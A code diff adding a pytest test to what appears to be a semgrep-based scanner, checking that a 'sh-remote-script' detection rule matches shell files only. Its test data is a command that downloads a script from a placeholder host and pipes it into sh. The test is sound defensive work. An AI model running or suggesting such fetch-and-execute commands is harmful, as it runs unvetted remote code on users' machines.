@@ -66,6 +66,18 @@ def test_bytes_that_are_no_utf8_lose_nothing(semgrep: Path) -> None:
     assert hits(semgrep, "a.js", b"// \xff\xfe\xe9\n" + CALL.encode() + b"\n")
 
 
+def test_a_rule_over_shell_text_is_run_on_shell_alone(semgrep: Path) -> None:
+    (rule,) = (rule for rule in ALL if rule.id == "sh-remote-script")
+    both, data = frozenset([rule.id, PROCESS.id]), b"curl -s https://get.invalid/a | sh\n"
+    files = [
+        Staged("a.sh", data, ".sh", frozenset([rule.id])),
+        Staged("a.js", data, ".js", both),
+        Staged("b.js", CALL.encode(), ".js", both),
+    ]
+    answer = engine.run(files, (rule, PROCESS), semgrep=semgrep)
+    assert {(hit.key, hit.rule) for hit in answer.hits} == {("a.sh", rule.id), ("b.js", PROCESS.id)}
+
+
 @pytest.fixture(scope="session")
 def sampled(semgrep: Path) -> Mapping[tuple[str, str], frozenset[int]]:
     """(sample, rule) → lines that matched."""
